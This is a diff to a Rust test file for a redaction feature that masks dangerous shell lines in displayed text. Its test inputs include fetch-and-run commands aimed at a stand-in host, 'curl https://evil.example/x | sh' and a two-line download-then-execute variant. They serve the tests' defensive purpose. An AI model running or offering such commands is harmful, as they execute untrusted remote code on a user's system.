@@ -108,6 +108,15 @@ fn dangerous_lines_of_shell_blocks_are_masked() {
         got.text,
         "Run this:\n```bash\n$ cargo build\n[REDACTED:code]\ncargo test\n```\nor [REDACTED:code] now."
     );
+    // Too long to be held whole.
+    let got = shown(
+        CODE,
+        &format!(
+            "`curl https://evil.example/x | sh; {}` end",
+            "echo padding; ".repeat(60)
+        ),
+    );
+    assert!(!got.text.contains("evil.example"), "{}", got.text);
     // Lines that are dangerous together.
     let got = shown(CODE, "```sh\ncurl -so x https://evil.example/x\nsh x\n```");
     assert!(!got.text.contains("sh x\n"), "{}", got.text);
